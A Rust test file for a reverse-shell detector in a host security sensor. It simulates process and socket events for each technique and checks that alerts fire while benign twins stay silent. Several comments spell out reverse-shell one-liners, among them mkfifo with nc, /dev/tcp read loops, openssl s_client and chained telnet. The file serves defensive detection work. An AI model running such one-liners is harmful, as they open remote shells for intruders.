//! Each way of a reverse shell, and its benign twin that differs in that one property.

use bartizan_bus::event::{Alert, Confidence, InetSocket, SecurityEvent, Severity, Transport};

use super::RuntimeWatcher;
use crate::config::{Config, RuntimeWatcherConfig};
use crate::detector::Detector;
use crate::lineage::Lineage;
use crate::testing::{Host, inet, null, pipe, run, tcp, tty, unix};

const PEER: &str = "203.0.113.9";

fn alerts_with(config: &str, events: &[SecurityEvent]) -> Vec<Alert> {
    let config: RuntimeWatcherConfig = toml::from_str(config).expect("configuration");
    let mut watcher = RuntimeWatcher::new(&config);
    run(&mut watcher, &mut Lineage::new(1000), 1, events)
}

fn alerts(host: &mut Host) -> Vec<Alert> {
    alerts_with("", &host.take())
}

/// init, and a login shell 100 on pts/0 below sshd, which is sanctioned.
fn host() -> Host {
    let mut host = Host::new();
    host.seed(1, 0, "/usr/lib/systemd/systemd", &["systemd"]);
    host.seed(50, 1, "/usr/sbin/sshd", &["sshd: eve@pts/0"]);
    host.seed(100, 50, "/usr/bin/bash", &["-bash"]);
    host
}

fn socket() -> InetSocket {
    tcp(41000, PEER, 4444)
}

fn on_socket(socket: InetSocket) -> [bartizan_bus::event::StdioEnd; 3] {
    [inet(socket), inet(socket), inet(socket)]
}

fn on_tty() -> [bartizan_bus::event::StdioEnd; 3] {
    [tty("pts/0"), tty("pts/0"), tty("pts/0")]
}

/// Forks `child` off `parent` and executes there.
fn spawn(host: &mut Host, parent: u32, child: u32, argv: &[&str], stdio: &[bartizan_bus::event::StdioEnd]) {
    host.fork(parent, child);
    let exe = program(argv[0]);
    host.exec_with(child, &exe, argv, stdio, None);
}

fn program(name: &str) -> String {
    if name.starts_with('/') { name.to_owned() } else { format!("/usr/bin/{}", name.trim_start_matches('-')) }
}

fn only(alerts: &[Alert]) -> &Alert {
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    &alerts[0]
}

// 1. The standard streams are the socket.

#[test]
fn bash_over_dev_tcp_is_critical_with_lineage_and_peer() {
    let mut host = host();
    host.fork(100, 200);
    let connect = host.connect(200, socket());
    let exec = host.exec_with(200, "/usr/bin/bash", &["bash", "-i"], &on_socket(socket()), None);
    let alerts = alerts(&mut host);
    let alert = only(&alerts);
    assert_eq!(alert.rule, "runtime_watcher.reverse_shell");
    assert_eq!((alert.severity, alert.confidence), (Severity::Critical, Confidence::High));
    assert!(alert.explanation.contains("203.0.113.9:4444") && alert.explanation.contains("fd 0, 1 and 2"), "{}", alert.explanation);
    assert_eq!(alert.evidence, [exec, connect]);
    let lineage: Vec<&str> = alert.lineage.iter().filter_map(|entry| entry.exe.as_deref()).collect();
    assert_eq!(lineage, ["/usr/bin/bash", "/usr/bin/bash", "/usr/sbin/sshd", "/usr/lib/systemd/systemd"]);
    let attack: Vec<&str> = alert.attack.iter().map(|attack| attack.technique.as_str()).collect();
    assert_eq!(attack, ["T1059.004", "T1095"]);
    assert!(!alert.next_steps.is_empty());
}

#[test]
fn every_kind_of_connected_inet_socket_counts() {
    let udp = InetSocket { transport: Transport::Udp, ..socket() };
    let v6 = tcp(41000, "2001:db8::9", 4444);
    for socket in [udp, v6] {
        for argv in [&["/bin/sh", "-i"][..], &["python3", "-c", "x"], &["perl", "x.pl"], &["/bin/dash"]] {
            let mut host = host();
            spawn(&mut host, 100, 200, argv, &on_socket(socket));
            only(&alerts(&mut host));
        }
    }
}

#[test]
fn a_socket_that_is_not_connected_is_silent() {
    let mut host = host();
    let listening = InetSocket { connected: false, peer_ip: None, peer_port: None, ..socket() };
    spawn(&mut host, 100, 200, &["bash", "-i"], &on_socket(listening));
    assert_eq!(alerts(&mut host), []);
}

#[test]
fn a_shell_on_a_terminal_and_a_program_that_is_no_shell_are_silent() {
    let mut host = host();
    host.fork(100, 200);
    host.connect(200, socket());
    host.exec_with(200, "/usr/bin/bash", &["bash", "-i"], &on_tty(), None);
    spawn(&mut host, 100, 201, &["/usr/sbin/in.ftpd"], &on_socket(socket()));
    assert_eq!(alerts(&mut host), []);
}

#[test]
fn one_direction_is_high_and_less_sure() {
    let mut host = host();
    spawn(&mut host, 100, 200, &["bash", "-i"], &[tty("pts/0"), inet(socket()), inet(socket())]);
    let alerts = alerts(&mut host);
    assert_eq!((only(&alerts).severity, only(&alerts).confidence), (Severity::High, Confidence::Medium));
}

#[test]
fn renamed_and_multi_call_shells_count() {
    for (exe, argv) in [("/tmp/x", &["bash"][..]), ("/bin/busybox", &["sh", "-i"]), ("/bin/busybox", &["busybox", "ash"])] {
        let mut host = host();
        host.fork(100, 200);
        host.exec_with(200, exe, argv, &on_socket(socket()), None);
        only(&alerts(&mut host));
    }
    let mut host = host();
    host.fork(100, 200);
    host.exec_with(200, "/bin/busybox", &["busybox", "telnetd"], &on_socket(socket()), None);
    assert_eq!(alerts(&mut host), []);
}

// 2. The parent relays over a terminal.

fn relayed(
    relay_argv: &[&str],
    relay_sockets: &[InetSocket],
    fds: &[u8],
    argv: &[&str],
    stdio: &[bartizan_bus::event::StdioEnd],
) -> Vec<Alert> {
    let mut host = host();
    host.fork(100, 200);
    host.exec_with(200, &program(relay_argv[0]), relay_argv, &on_tty(), None);
    if let Some(socket) = relay_sockets.first() {
        host.connect(200, *socket);
    }
    host.fork(200, 201);
    let relay = host.relay(200, fds, relay_sockets);
    host.exec_with(201, &program(argv[0]), argv, stdio, relay);
    alerts(&mut host)
}

fn on_pty() -> [bartizan_bus::event::StdioEnd; 3] {
    [tty("pts/7"), tty("pts/7"), tty("pts/7")]
}

#[test]
fn python_pty_spawn_socat_pty_and_script_are_found() {
    for relay in [&["python3", "-c", "pty"][..], &["socat", "TCP:h:p", "EXEC:bash,pty"], &["script", "-qc", "bash"]] {
        for shell in [&["/bin/bash"][..], &["bash", "-li"], &["-bash"], &["/bin/sh", "-i"]] {
            let alerts = relayed(relay, &[socket()], &[0, 1, 2], shell, &on_pty());
            let alert = only(&alerts);
            assert_eq!((alert.severity, alert.confidence), (Severity::Critical, Confidence::High), "{relay:?} {shell:?}");
            assert!(alert.explanation.contains("terminal pts/7"), "{}", alert.explanation);
        }
    }
}

#[test]
fn a_terminal_without_a_connection_or_a_shell_with_a_command_is_silent() {
    let unconnected = InetSocket { connected: false, ..socket() };
    assert_eq!(relayed(&["python3", "-c", "pty"], &[], &[0, 1, 2], &["bash"], &on_pty()), []);
    assert_eq!(relayed(&["python3", "-c", "pty"], &[unconnected], &[0, 1, 2], &["bash"], &on_pty()), []);
    assert_eq!(relayed(&["python3", "-c", "pty"], &[socket()], &[0, 1, 2], &["bash", "-c", "ls"], &on_pty()), []);
    assert_eq!(relayed(&["python3", "-c", "pty"], &[socket()], &[0, 1, 2], &["ls"], &on_pty()), []);
}

/// Counter `relay_truncated_unjudged` after a shell `argv` on `stdio` of a relay that serves `fds` and holds `sockets`.
fn unjudged(argv: &[&str], stdio: &[bartizan_bus::event::StdioEnd], fds: &[u8], sockets: &[InetSocket], truncated: bool) -> (usize, u64) {
    let mut host = host();
    host.fork(100, 200);
    host.exec_with(200, "/usr/bin/python3", &["python3", "-c", "pty"], &on_tty(), None);
    host.fork(200, 201);
    let relay = host.relay(200, fds, sockets).map(|relay| bartizan_bus::event::Relay { truncated, ..relay });
    host.exec_with(201, &program(argv[0]), argv, stdio, relay);
    let mut watcher = RuntimeWatcher::new(&RuntimeWatcherConfig::default());
    let alerts = run(&mut watcher, &mut Lineage::new(1000), 1, &host.take());
    (alerts.len(), watcher.state().counters["relay_truncated_unjudged"])
}

#[test]
fn a_terminal_whose_relay_has_descriptors_that_nobody_looked_at_is_counted_and_not_told() {
    let (shell, all) = (&["bash", "-i"][..], &[0, 1, 2][..]);
    assert_eq!(unjudged(shell, &on_pty(), all, &[], true), (0, 1));
    assert_eq!(unjudged(shell, &on_pty(), all, &[InetSocket { connected: false, ..socket() }], true), (0, 1));
    // Looked at in full; a socket is among those looked at; no commands from there; no shell; no terminal.
    assert_eq!(unjudged(shell, &on_pty(), all, &[], false), (0, 0));
    assert_eq!(unjudged(shell, &on_pty(), all, &[socket()], true), (1, 0));
    assert_eq!(unjudged(&["bash", "-c", "ls"], &on_pty(), all, &[], true), (0, 0));
    assert_eq!(unjudged(shell, &on_pty(), &[1, 2], &[], true), (0, 0));
    assert_eq!(unjudged(&["ls"], &on_pty(), all, &[], true), (0, 0));
    assert_eq!(unjudged(shell, &on_pipes(), all, &[], true), (0, 0));
}

// 3. The parent relays over pipes or UNIX sockets.

fn on_pipes() -> [bartizan_bus::event::StdioEnd; 3] {
    [pipe(11), pipe(12), pipe(12)]
}

fn on_unix() -> [bartizan_bus::event::StdioEnd; 3] {
    [unix(21, 22), unix(23, 24), unix(25, 26)]
}

#[test]
fn node_and_socat_over_pipes_and_unix_sockets_are_found() {
    for stdio in [on_pipes(), on_unix()] {
        for shell in [&["/bin/sh"][..], &["/bin/sh", "-i"], &["bash", "-s"], &["python3", "-i"], &["python3", "-"], &["bash", "--norc"]] {
            let alerts = relayed(&["node", "rev.js"], &[socket()], &[0, 1, 2], shell, &stdio);
            assert_eq!(only(&alerts).severity, Severity::Critical, "{shell:?}");
        }
    }
}

#[test]
fn a_web_application_that_runs_commands_with_captured_output_is_silent() {
    for stdio in [on_pipes(), on_unix()] {
        for command in [
            &["/bin/sh", "-c", "convert x y"][..],
            &["sh", "script.sh"],
            &["python3", "tool.py"],
            &["perl", "-e", "1"],
            &["bash", "-lc", "x"],
        ] {
            assert_eq!(relayed(&["node", "app.js"], &[socket()], &[0, 1, 2], command, &stdio), [], "{command:?}");
        }
    }
}

#[test]
fn over_pipes_both_directions_are_needed() {
    assert_eq!(relayed(&["node", "app.js"], &[socket()], &[0], &["/bin/sh"], &on_pipes()), []);
    assert_eq!(relayed(&["node", "app.js"], &[socket()], &[1, 2], &["/bin/sh"], &[null(), pipe(12), pipe(12)]), []);
}

#[test]
fn a_shell_inside_a_wrapper_keeps_the_relay_and_is_reported_once() {
    let mut host = host();
    host.fork(100, 200);
    host.exec(200, "/usr/bin/node", &["node", "rev.js"]);
    host.connect(200, socket());
    host.fork(200, 201);
    let relay = host.relay(200, &[0, 1, 2], &[socket()]);
    host.exec_with(201, "/bin/sh", &["sh", "-c", "bash; true"], &on_pipes(), relay);
    spawn(&mut host, 201, 202, &["bash"], &on_pipes());
    spawn(&mut host, 202, 203, &["/bin/sh"], &on_pipes());
    let events = host.take();
    let found = alerts_with("", &events);
    let alert = only(&found);
    assert_eq!(alert.lineage[0].pid, 202);
    assert!(alert.explanation.contains("kept from the process that started it"));
    // The twin's inner shell has other streams.
    let mut host = self::host();
    host.fork(100, 200);
    host.exec(200, "/usr/bin/node", &["node", "app.js"]);
    host.connect(200, socket());
    host.fork(200, 201);
    let relay = host.relay(200, &[0, 1, 2], &[socket()]);
    host.exec_with(201, "/bin/sh", &["sh", "-c", "cat script | bash"], &on_pipes(), relay);
    spawn(&mut host, 201, 202, &["bash"], &[pipe(99), pipe(12), pipe(12)]);
    assert_eq!(alerts(&mut host), []);
}

// 4. Pipes in a loop.

/// `cat f | sh -i 2>&1 | nc H P > f`, the parts in the order of `order`.
fn mkfifo_line(order: [u8; 4], mkfifo: bool, shell: &[&str], nc_out: bartizan_bus::event::StdioEnd) -> Host {
    let mut host = host();
    if mkfifo {
        spawn(&mut host, 100, 199, &["mkfifo", "/tmp/f"], &on_tty());
        host.exit(199);
    }
    for pid in [201, 202, 203] {
        host.fork(100, pid);
    }
    for part in order {
        match part {
            0 => drop(host.exec_with(201, "/usr/bin/cat", &["cat", "f"], &[tty("pts/0"), pipe(1), tty("pts/0")], None)),
            1 => drop(host.exec_with(202, &program(shell[0]), shell, &[pipe(1), pipe(2), pipe(2)], None)),
            2 => drop(host.exec_with(203, "/usr/bin/nc", &["nc", PEER, "4444"], &[pipe(2), nc_out.clone(), tty("pts/0")], None)),
            _ => drop(host.connect(203, socket())),
        }
    }
    host
}

#[test]
fn the_mkfifo_line_is_found_in_any_order_of_its_parts() {
    for order in [[0, 1, 2, 3], [2, 3, 1, 0], [1, 2, 3, 0], [2, 1, 0, 3], [0, 2, 3, 1]] {
        for (mkfifo, shell) in [(true, &["sh", "-i"][..]), (true, &["sh"]), (false, &["/bin/bash", "-i"])] {
            let mut host = mkfifo_line(order, mkfifo, shell, pipe(3));
            let alerts = alerts(&mut host);
            let alert = only(&alerts);
            assert_eq!(alert.lineage[0].pid, 202, "{order:?}");
            assert_eq!(alert.severity, Severity::Critical);
            assert!(alert.explanation.contains("loop") && alert.explanation.contains("203.0.113.9:4444"), "{}", alert.explanation);
        }
    }
}

#[test]
fn a_loop_that_is_not_closed_is_silent() {
    // echo id | sh | nc H P
    let mut host = mkfifo_line([0, 1, 2, 3], true, &["sh", "-i"], tty("pts/0"));
    assert_eq!(alerts(&mut host), []);
    // x=$(cat script | sh | nc H P): the output is a pipe, and no FIFO was made.
    let mut host = mkfifo_line([0, 1, 2, 3], false, &["sh"], pipe(3));
    assert_eq!(alerts(&mut host), []);
    // nc does not connect.
    let mut host = mkfifo_line([0, 1, 2, 2], true, &["sh", "-i"], pipe(3));
    assert_eq!(alerts(&mut host), []);
    // The output has a reader of its own.
    let mut host = mkfifo_line([0, 1, 2, 2], true, &["sh", "-i"], pipe(3));
    spawn(&mut host, 100, 204, &["tee", "log"], &[pipe(3), tty("pts/0"), tty("pts/0")]);
    host.connect(203, socket());
    assert_eq!(alerts(&mut host), []);
}

#[test]
fn a_fifo_as_the_shells_own_standard_input_and_a_coprocess_are_found() {
    // sh -i < f 2>&1 | openssl s_client -connect H:P > f
    let mut host = host();
    host.fork(100, 201);
    host.fork(100, 202);
    host.exec_with(201, "/bin/sh", &["sh"], &[pipe(3), pipe(2), pipe(2)], None);
    host.exec_with(202, "/usr/bin/openssl", &["openssl", "s_client"], &[pipe(2), pipe(3), tty("pts/0")], None);
    host.connect(202, socket());
    let found = alerts(&mut host);
    assert_eq!(only(&found).confidence, Confidence::High);
}

#[test]
fn curl_into_a_shell_is_silent() {
    let mut host = host();
    host.fork(100, 201);
    host.fork(100, 202);
    host.exec_with(201, "/usr/bin/curl", &["curl", "https://h/install.sh"], &[tty("pts/0"), pipe(1), tty("pts/0")], None);
    host.exec_with(202, "/bin/sh", &["sh"], &[pipe(1), tty("pts/0"), tty("pts/0")], None);
    host.connect(201, tcp(41000, PEER, 443));
    assert_eq!(alerts(&mut host), []);
}

#[test]
fn two_connections_to_one_peer_close_the_loop_on_different_ports_only() {
    for (second_port, expected) in [(4445, 1), (4444, 0)] {
        // telnet H 4444 | sh | telnet H 4445
        let mut host = host();
        for pid in [201, 202, 203] {
            host.fork(100, pid);
        }
        host.exec_with(201, "/usr/bin/telnet", &["telnet"], &[tty("pts/0"), pipe(1), tty("pts/0")], None);
        host.exec_with(202, "/bin/sh", &["sh"], &[pipe(1), pipe(2), pipe(2)], None);
        host.exec_with(203, "/usr/bin/telnet", &["telnet"], &[pipe(2), tty("pts/0"), tty("pts/0")], None);
        host.connect(201, tcp(41000, PEER, 4444));
        host.connect(203, tcp(41001, PEER, second_port));
        assert_eq!(alerts(&mut host).len(), expected);
    }
}

// 5. The shell holds the socket and its children use it.

#[test]
fn a_read_loop_over_dev_tcp_is_found_when_it_runs_a_command() {
    // exec 5<>/dev/tcp/H/P; cat <&5 | while read l; do $l 2>&5 >&5; done
    let mut host = host();
    spawn(&mut host, 100, 200, &["bash", "-c", "exec 5<>..."], &on_tty());
    host.connect(200, socket());
    host.fork(200, 201);
    host.exec_with(201, "/usr/bin/cat", &["cat"], &[inet(socket()), pipe(1), tty("pts/0")], None);
    host.fork(200, 202);
    host.fork(202, 203);
    host.exec_with(203, "/usr/bin/id", &["id"], &[pipe(1), inet(socket()), inet(socket())], None);
    host.fork(202, 204);
    host.exec_with(204, "/usr/bin/ls", &["ls"], &[pipe(1), inet(socket()), inet(socket())], None);
    let found = alerts(&mut host);
    let alert = only(&found);
    assert_eq!(alert.lineage[0].pid, 200);
    assert_eq!(alert.severity, Severity::High);
    assert!(alert.explanation.contains("which it connected itself"), "{}", alert.explanation);
}

#[test]
fn a_shell_that_moves_its_streams_onto_its_own_connection_is_found_by_one_child() {
    // exec 0<>/dev/tcp/H/P; exec 1>&0 2>&0; id
    let mut host = host();
    spawn(&mut host, 100, 200, &["bash"], &on_tty());
    host.connect(200, socket());
    spawn(&mut host, 200, 201, &["id"], &on_socket(socket()));
    let found = alerts(&mut host);
    assert_eq!(only(&found).lineage[0].pid, 200);
}

#[test]
fn output_to_dev_tcp_alone_input_alone_and_two_sockets_are_silent() {
    let mut host = host();
    // ls > /dev/tcp/H/P: the forked copy connects.
    host.fork(100, 200);
    host.connect(200, socket());
    host.exec_with(200, "/usr/bin/ls", &["ls"], &[tty("pts/0"), inet(socket()), tty("pts/0")], None);
    host.exit(200);
    // cat < /dev/tcp/H/P2
    host.fork(100, 201);
    host.connect(201, tcp(41001, PEER, 80));
    host.exec_with(201, "/usr/bin/cat", &["cat"], &[inet(tcp(41001, PEER, 80)), tty("pts/0"), tty("pts/0")], None);
    // A child with all three that its shell did not connect.
    spawn(&mut host, 100, 202, &["/usr/sbin/in.fingerd"], &on_socket(tcp(79, PEER, 50000)));
    assert_eq!(alerts(&mut host), []);
}

// 6. Login services.

/// The relay runs `exe`, whose file has this owner and may be deleted; a login shell on its terminal.
fn login(exe: &str, owner: u32, deleted: bool, outbound: bool, shell: &[&str], stdio: &[bartizan_bus::event::StdioEnd]) -> Vec<Alert> {
    let inbound = tcp(22, "198.51.100.4", 50022);
    let mut host = Host::new();
    host.seed(1, 0, "/sbin/init", &["init"]);
    host.fork(1, 60);
    host.exec(60, exe, &["sshd: eve [priv]"]);
    host.file(60, owner, deleted);
    host.restart_pid(61);
    host.fork(60, 61);
    if outbound {
        host.connect(61, inbound);
    }
    host.fork(61, 62);
    let relay = host.relay(61, &[0, 1, 2], &[inbound]);
    host.exec_with(62, "/bin/bash", shell, stdio, relay);
    spawn(&mut host, 62, 63, &["bash"], stdio);
    alerts(&mut host)
}

#[test]
fn sshd_and_its_like_are_silent_with_terminal_and_without() {
    for exe in super::LOGIN_SERVICES {
        assert_eq!(login(exe, 0, false, false, &["-bash"], &on_pty()), [], "{exe}");
        assert_eq!(login(exe, 0, false, false, &["bash", "-s"], &on_pipes()), []);
        assert_eq!(login(exe, 0, false, false, &["bash", "-s"], &on_unix()), []);
    }
}

#[test]
fn what_only_calls_itself_sshd_is_reported() {
    only(&login("/tmp/sshd", 0, false, false, &["-bash"], &on_pty()));
    only(&login("/usr/sbin/sshd", 1000, false, false, &["-bash"], &on_pty()));
    only(&login("/usr/sbin/sshd", 0, true, false, &["-bash"], &on_pty()));
    only(&login("/usr/sbin/sshd", 0, false, true, &["-bash"], &on_pty()));
}

#[test]
fn a_session_that_also_forwards_outbound_connections_is_silent() {
    let mut host = host();
    let forwarded = tcp(45000, "10.0.0.9", 5432);
    host.connect(50, forwarded);
    host.fork(50, 60);
    let relay = host.relay(50, &[0, 1, 2], &[forwarded, tcp(22, "198.51.100.4", 50022)]);
    host.exec_with(60, "/bin/bash", &["-bash"], &on_pty(), relay);
    assert_eq!(alerts(&mut host), []);
}

#[test]
fn a_relay_that_is_not_known_yet_is_waited_for() {
    for seeded_as in [Some("/usr/sbin/sshd"), Some("/tmp/implant"), None] {
        let mut host = Host::new();
        let relay = host.relay(50, &[0, 1, 2], &[tcp(22, "198.51.100.4", 50022)]);
        host.exec_with(60, "/bin/bash", &["-bash"], &on_pty(), relay);
        match seeded_as {
            Some(exe) => host.seed(50, 1, exe, &["x"]),
            None => {
                host.advance(5_000_000_000);
                host.heartbeat();
            }
        }
        let expected = usize::from(seeded_as != Some("/usr/sbin/sshd"));
        assert_eq!(alerts(&mut host).len(), expected, "{seeded_as:?}");
    }
    // A shell that ends before its relay is known is judged at its end.
    let mut host = Host::new();
    let relay = host.relay(50, &[0, 1, 2], &[socket()]);
    host.exec_with(60, "/bin/bash", &["-bash"], &on_pty(), relay);
    host.exit(60);
    only(&alerts(&mut host));
}

// 7. Configured services.

const SERVICE: &str = r#"
    [[reverse_shell.services]]
    name = "status page"
    program = "/usr/local/bin/handler"
    local_port = 7000
    parent = "/usr/sbin/inetd"
"#;

/// inetd runs `#!/bin/sh` script /usr/local/bin/handler, which runs `sh -c date` and `cat`.
fn inetd(handler: &str, port: u16, parent: &str, outbound: bool) -> Vec<SecurityEvent> {
    let accepted = tcp(port, "198.51.100.4", 50123);
    let mut host = host();
    host.fork(1, 300);
    host.exec(300, parent, &["inetd"]);
    host.fork(300, 301);
    if outbound {
        host.connect(301, accepted);
    }
    host.exec_as(301, "/usr/bin/dash", handler, &["/bin/sh", handler], &on_socket(accepted), None);
    spawn(&mut host, 301, 302, &["/bin/sh", "-c", "date"], &on_socket(accepted));
    spawn(&mut host, 301, 303, &["cat"], &on_socket(accepted));
    spawn(&mut host, 301, 304, &["cat"], &on_socket(accepted));
    host.take()
}

#[test]
fn an_inetd_style_handler_is_silent_only_as_configured() {
    let known = |events: &[SecurityEvent]| alerts_with(SERVICE, events).len();
    assert_eq!(known(&inetd("/usr/local/bin/handler", 7000, "/usr/sbin/inetd", false)), 0);
    assert_eq!(alerts_with("", &inetd("/usr/local/bin/handler", 7000, "/usr/sbin/inetd", false)).len(), 1);
    assert_eq!(known(&inetd("/usr/local/bin/other", 7000, "/usr/sbin/inetd", false)), 1);
    assert_eq!(known(&inetd("/usr/local/bin/handler", 7001, "/usr/sbin/inetd", false)), 1);
    assert_eq!(known(&inetd("/usr/local/bin/handler", 7000, "/tmp/inetd", false)), 1);
    assert_eq!(known(&inetd("/usr/local/bin/handler", 7000, "/usr/sbin/inetd", true)), 1);
}

#[test]
fn an_exception_for_outbound_names_the_peers() {
    let config = "[[reverse_shell.services]]\nname = \"x\"\nprogram = \"/usr/bin/bash\"\noutbound_peers = [\"203.0.113.0/24:4444\"]";
    let line = |peer: &str| {
        let mut host = host();
        host.fork(100, 200);
        host.connect(200, tcp(41000, peer, 4444));
        host.exec_with(200, "/usr/bin/bash", &["bash", "-i"], &on_socket(tcp(41000, peer, 4444)), None);
        alerts_with(config, &host.take()).len()
    };
    assert_eq!(line("203.0.113.9"), 0);
    assert_eq!(line("203.0.114.9"), 1);
}

#[test]
fn an_exception_for_the_shell_covers_loops_and_children() {
    let config =
        |program: &str| format!("[[reverse_shell.services]]\nname = \"x\"\nprogram = \"{program}\"\noutbound_peers = [\"203.0.113.9\"]");
    let events = mkfifo_line([0, 1, 2, 3], true, &["sh", "-i"], pipe(3)).take();
    assert_eq!(alerts_with(&config("/usr/bin/sh"), &events), []);
    only(&alerts_with(&config("/usr/bin/bash"), &events));

    let mut host = host();
    spawn(&mut host, 100, 200, &["bash", "/opt/fetch.sh"], &on_tty());
    host.connect(200, socket());
    spawn(&mut host, 200, 201, &["cat", "request"], &[tty("pts/0"), inet(socket()), tty("pts/0")]);
    spawn(&mut host, 200, 202, &["cat"], &[inet(socket()), tty("pts/0"), tty("pts/0")]);
    let events = host.take();
    assert_eq!(alerts_with(&config("/opt/fetch.sh"), &events), []);
    only(&alerts_with(&config("/opt/other.sh"), &events));
}

// 8. Seeds, restarts, one alert per process and connection.

#[test]
fn a_shell_older_than_the_sensor_is_found_under_the_same_id_and_once() {
    let mut live = host();
    live.fork(100, 200);
    live.connect(200, socket());
    live.exec_with(200, "/usr/bin/bash", &["bash", "-i"], &on_socket(socket()), None);
    let before = live.take();
    live.seed_approximate_with(200, 100, "/usr/bin/bash", &["bash", "-i"], &on_socket(socket()), None);
    let seeds = live.take();

    let found_live = alerts_with("", &before);
    let found_seeded = alerts_with("", &seeds);
    assert_eq!(only(&found_live).id, only(&found_seeded).id);
    assert_eq!(only(&found_live).msg_id(), only(&found_seeded).msg_id());
    let both: Vec<SecurityEvent> = before.into_iter().chain(seeds.clone()).chain(seeds).collect();
    only(&alerts_with("", &both));
}

#[test]
fn a_relayed_shell_older_than_the_sensor_is_found() {
    let mut host = host();
    host.seed(200, 100, "/usr/bin/python3.11", &["python3", "-c", "pty"]);
    let relay = host.relay(200, &[0, 1, 2], &[socket()]);
    host.seed_with(201, 200, "/usr/bin/bash", &["/bin/bash"], &on_pty(), relay);
    only(&alerts(&mut host));
}

#[test]
fn a_read_loop_older_than_the_sensor_is_found_by_its_next_command() {
    let mut host = host();
    let argv = ["bash", "-c", "exec 5<>..."];
    host.seed_with(200, 100, "/usr/bin/bash", &argv, &on_tty(), None);
    host.seed_with(201, 200, "/usr/bin/cat", &["cat"], &[inet(socket()), pipe(1), tty("pts/0")], None);
    host.seed_with(202, 200, "/usr/bin/bash", &argv, &[pipe(1), tty("pts/0"), tty("pts/0")], None);
    host.fork(202, 203);
    host.exec_with(203, "/usr/bin/id", &["id"], &[pipe(1), inet(socket()), inet(socket())], None);
    let found = alerts(&mut host);
    assert_eq!(only(&found).lineage[0].pid, 200);
}

#[test]
fn children_second_images_and_the_program_around_it_add_nothing() {
    let mut host = host();
    // python connects, moves the socket onto 0-2, and runs sh -i.
    spawn(&mut host, 100, 200, &["python3", "-c", "x"], &on_tty());
    host.connect(200, socket());
    spawn(&mut host, 200, 201, &["/bin/sh", "-i"], &on_socket(socket()));
    host.exec_with(201, "/usr/bin/bash", &["bash"], &on_socket(socket()), None);
    spawn(&mut host, 201, 202, &["perl", "x.pl"], &on_socket(socket()));
    // The upgrade to a terminal: python relays the same connection.
    spawn(&mut host, 201, 203, &["python3", "-c", "pty"], &on_socket(socket()));
    host.fork(203, 204);
    let relay = host.relay(203, &[0, 1, 2], &[socket()]);
    host.exec_with(204, "/usr/bin/bash", &["bash"], &on_pty(), relay);
    // The sensor restarts: python itself is now on the socket.
    host.seed_approximate_with(200, 100, "/usr/bin/python3", &["python3", "-c", "x"], &on_socket(socket()), None);
    let events = host.take();
    let mut watcher = RuntimeWatcher::new(&Config::default().runtime_watcher);
    let alerts = run(&mut watcher, &mut Lineage::new(1000), 1, &events);
    assert_eq!(only(&alerts).lineage[0].pid, 201);
    let counters = watcher.state().counters;
    assert_eq!(counters["reported"], 1);
    assert_eq!(counters["folded_same_process"], 1);
    assert_eq!(counters["folded_same_connection"], 4);
}

#[test]
fn another_connection_from_within_a_reported_shell_is_another_alert() {
    let mut host = host();
    spawn(&mut host, 100, 200, &["bash", "-i"], &on_socket(socket()));
    spawn(&mut host, 200, 201, &["bash", "-i"], &on_socket(tcp(41001, "203.0.113.10", 5555)));
    let alerts = alerts(&mut host);
    assert_eq!(alerts.len(), 2);
    assert_ne!(alerts[0].id, alerts[1].id);
}

#[test]
fn a_failed_exec_is_no_shell() {
    let mut host = host();
    host.fork(100, 200);
    host.exec_with(200, "/usr/bin/bash", &["bash", "-i"], &on_socket(socket()), None);
    let mut events = host.take();
    for event in &mut events {
        if let bartizan_bus::event::Body::Exec(exec) = &mut event.body {
            exec.error = Some(bartizan_bus::event::Errno(2));
        }
    }
    assert_eq!(alerts_with("", &events), []);
}

/// Everything at once, for the tests of replay.
fn mixed() -> Vec<SecurityEvent> {
    let mut host = mkfifo_line([0, 2, 3, 1], true, &["sh", "-i"], pipe(3));
    host.fork(100, 300);
    host.connect(300, tcp(42000, PEER, 5555));
    host.exec_with(300, "/usr/bin/bash", &["bash", "-i"], &on_socket(tcp(42000, PEER, 5555)), None);
    let relay = host.relay(999, &[0, 1, 2], &[tcp(43000, PEER, 6666)]);
    host.fork(100, 301);
    host.exec_with(301, "/usr/bin/bash", &["bash"], &on_pty(), relay);
    spawn(&mut host, 100, 400, &["bash", "-c", "x"], &on_tty());
    let own = tcp(44000, PEER, 7777);
    host.connect(400, own);
    spawn(&mut host, 400, 401, &["cat"], &[inet(own), pipe(50), tty("pts/0")]);
    host.advance(5_000_000_000);
    host.heartbeat();
    spawn(&mut host, 400, 402, &["id"], &[pipe(50), inet(own), inet(own)]);
    host.take()
}

#[test]
fn the_same_events_give_the_same_alerts_and_a_restored_state_goes_on_as_the_saved_one() {
    let events = mixed();
    let whole = alerts_with("", &events);
    assert_eq!(whole.len(), 4);
    assert_eq!(whole, alerts_with("", &events));
    let config = RuntimeWatcherConfig::default();
    for cut in 0..=events.len() {
        let (mut first, mut lineage) = (RuntimeWatcher::new(&config), Lineage::new(1000));
        let mut alerts = run(&mut first, &mut lineage, 1, &events[..cut]);
        let mut second = RuntimeWatcher::new(&config);
        second.restore(&first.save()).expect("own bytes");
        let mut lineage = Lineage::restore(&lineage.save(), 1000).expect("own bytes");
        assert_eq!(second.save(), first.save());
        assert_eq!(second.state(), first.state());
        alerts.extend(run(&mut second, &mut lineage, cut as u64 + 1, &events[cut..]));
        assert_eq!(alerts, whole, "cut at {cut}");
    }
}

#[test]
fn tables_keep_their_bounds_and_count_what_made_room() {
    let config: RuntimeWatcherConfig =
        toml::from_str("[reverse_shell]\nmax_processes = 64\nmax_connections = 64\nmax_reports = 64").expect("configuration");
    let mut watcher = RuntimeWatcher::new(&config);
    let mut host = host();
    for pid in 1000..1200 {
        let port = 40_000 + u16::try_from(pid).expect("small");
        host.fork(100, pid);
        host.connect(pid, tcp(port, PEER, 4444));
        host.exec_with(pid, "/usr/bin/bash", &["bash", "-i"], &on_socket(tcp(port, PEER, 4444)), None);
    }
    let alerts = run(&mut watcher, &mut Lineage::new(64), 1, &host.take());
    assert_eq!(alerts.len(), 200);
    for table in watcher.state().tables {
        assert!(table.entries <= table.bound, "{table:?}");
        if ["processes", "connections", "reports"].contains(&table.name) {
            assert!(table.evicted >= 130, "{table:?}");
        }
    }
}

/// A host after its boot `boot`, with a shell on `socket`.
fn booted(boot: u64, socket: InetSocket) -> Vec<SecurityEvent> {
    let mut host = Host::with_boot(boot);
    host.seed(1, 0, "/sbin/init", &["init"]);
    host.seed(100, 1, "/usr/bin/bash", &["-bash"]);
    spawn(&mut host, 100, 200, &["bash", "-i"], &on_socket(socket));
